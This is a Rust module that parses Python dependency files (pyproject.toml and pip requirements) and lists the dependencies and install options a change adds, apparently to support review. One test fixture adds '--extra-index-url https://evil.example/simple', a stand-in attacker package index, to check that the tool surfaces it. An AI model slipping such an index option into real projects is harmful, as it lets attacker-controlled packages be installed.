//! Python: `pyproject.toml` (PEP 621, PEP 735 groups, build requirements, Poetry) through the
//! `toml` crate, and pip's `requirements*.txt` line format.

use toml::{Table, Value};

use super::spec::{Entries, Spec, insert};

pub(crate) fn pyproject(text: &str) -> Result<Entries, String> {
    let doc: Table = text
        .parse()
        .map_err(|e: toml::de::Error| e.message().to_string())?;
    let mut entries = Entries::new();
    let project = doc.get("project");
    pep508_list(
        &mut entries,
        "project.dependencies",
        project.and_then(|p| p.get("dependencies")),
    );
    groups(
        &mut entries,
        "project.optional-dependencies",
        project.and_then(|p| p.get("optional-dependencies")),
    );
    groups(
        &mut entries,
        "dependency-groups",
        doc.get("dependency-groups"),
    );
    let build = doc.get("build-system").and_then(|b| b.get("requires"));
    pep508_list(&mut entries, "build-system.requires", build);
    if let Some(poetry) = doc.get("tool").and_then(|t| t.get("poetry")) {
        for table in ["dependencies", "dev-dependencies"] {
            poetry_table(
                &mut entries,
                &format!("tool.poetry.{table}"),
                poetry.get(table),
            );
        }
        if let Some(Value::Table(groups)) = poetry.get("group") {
            for (group, body) in groups {
                let section = format!("tool.poetry.group.{group}.dependencies");
                poetry_table(&mut entries, &section, body.get("dependencies"));
            }
        }
    }
    Ok(entries)
}

fn groups(entries: &mut Entries, prefix: &str, table: Option<&Value>) {
    let Some(Value::Table(table)) = table else {
        return;
    };
    for (group, list) in table {
        pep508_list(entries, &format!("{prefix}.{group}"), Some(list));
    }
}

fn pep508_list(entries: &mut Entries, section: &str, list: Option<&Value>) {
    let Some(Value::Array(list)) = list else {
        return;
    };
    for requirement in list.iter().filter_map(Value::as_str) {
        if let Some(spec) = pep508(section, requirement) {
            insert(entries, spec);
        }
    }
}

/// `name[extra] >=1; marker` or `name @ https://…`: the normalized name, the rest.
fn pep508(section: &str, requirement: &str) -> Option<Spec> {
    let requirement = requirement.trim();
    let end = requirement
        .find(|c: char| !(c.is_ascii_alphanumeric() || "._-".contains(c)))
        .unwrap_or(requirement.len());
    if end == 0 {
        return None;
    }
    let name = normalize(&requirement[..end]);
    let rest = requirement[end..].trim();
    let rest = rest
        .strip_prefix('[')
        .and_then(|r| r.split_once(']'))
        .map_or(rest, |(_, after)| after.trim());
    Some(match rest.strip_prefix('@') {
        Some(url) => Spec::new(section, &name, "", url.trim()),
        None => Spec::new(section, &name, rest, ""),
    })
}

/// PEP 503: case and runs of `-_.` do not distinguish packages.
fn normalize(name: &str) -> String {
    let mut out = String::new();
    for c in name.chars() {
        if "-_.".contains(c) {
            if !out.ends_with('-') {
                out.push('-');
            }
        } else {
            out.push(c.to_ascii_lowercase());
        }
    }
    out
}

fn poetry_table(entries: &mut Entries, section: &str, table: Option<&Value>) {
    let Some(Value::Table(table)) = table else {
        return;
    };
    for (name, value) in table.iter().filter(|(name, _)| *name != "python") {
        let (version, source) = match value {
            Value::String(v) => (v.clone(), String::new()),
            Value::Table(t) => {
                let text = |k: &str| t.get(k).and_then(Value::as_str).unwrap_or_default();
                let source = ["git", "branch", "rev", "tag", "path", "url", "source"]
                    .iter()
                    .filter(|k| !text(k).is_empty())
                    .map(|k| format!("{k} {}", text(k)))
                    .collect::<Vec<_>>()
                    .join(", ");
                (text("version").to_string(), source)
            }
            other => (other.to_string(), String::new()),
        };
        insert(
            entries,
            Spec::new(section, &normalize(name), &version, &source),
        );
    }
}

/// pip's format: one requirement a line, `#` comments, `\` continuations; option lines
/// (`-r`, `-e`, `--index-url`, …) are kept whole, since a new one changes what gets installed.
pub(crate) fn requirements(text: &str) -> Result<Entries, String> {
    let mut entries = Entries::new();
    for line in text.replace("\\\n", " ").lines() {
        let line = match line.find(" #") {
            Some(at) => &line[..at],
            None if line.trim_start().starts_with('#') => "",
            None => line,
        };
        let line = line.trim();
        if line.is_empty() {
            continue;
        }
        if line.starts_with('-') || line.contains("://") {
            insert(&mut entries, Spec::new("options", line, "", line));
        } else if let Some(spec) = pep508("requirements", line) {
            insert(&mut entries, spec);
        } else {
            return Err(format!("cannot read the requirement {line:?}"));
        }
    }
    Ok(entries)
}

/// The files a requirements text pulls in with `-r`/`--requirement` and `-c`/`--constraint`,
/// as written (relative to the including file's folder).
pub(crate) fn includes(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in text.replace("\\\n", " ").lines() {
        let line = line.split(" #").next().unwrap_or_default().trim();
        for option in ["--requirement", "--constraint", "-r", "-c"] {
            let Some(rest) = line.strip_prefix(option) else {
                continue;
            };
            let target = rest.trim_start_matches('=').trim();
            if !target.is_empty() && !target.contains("://") {
                out.push(target.to_string());
            }
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::new_names as names;

    #[test]
    fn pep621_groups_and_poetry() {
        let head = r#"
[project]
dependencies = ["Requests[socks] >=2", "my_pkg @ https://example.com/x.whl"]
[project.optional-dependencies]
dev = ["pytest"]
[dependency-groups]
lint = ["ruff"]
[tool.poetry.dependencies]
python = "^3.11"
httpx = "^0.27"
[tool.poetry.group.test.dependencies]
hypothesis = { version = "*" }
"#;
        assert_eq!(
            names("pyproject.toml", "[project]\nname = \"x\"\n", head),
            [
                "ruff",
                "my-pkg",
                "requests",
                "pytest",
                "httpx",
                "hypothesis"
            ]
        );
    }

    #[test]
    fn case_16_includes_are_found_in_every_spelling() {
        let text = "-r common.txt\n-c ../constraints.txt  # pins\n--requirement=dev.in\n-rtight.txt\nflask\n-r https://x/y.txt\n";
        assert_eq!(
            super::includes(text),
            ["common.txt", "../constraints.txt", "dev.in", "tight.txt"]
        );
    }

    #[test]
    fn requirement_lines_and_options() {
        let base = "requests==2.31.0\n";
        let head = "requests==2.32.0  # bump\n# a comment\nflask>=3\n--extra-index-url https://evil.example/simple\n";
        assert_eq!(
            names("requirements-dev.txt", base, head),
            ["--extra-index-url https://evil.example/simple", "flask"]
        );
    }
}
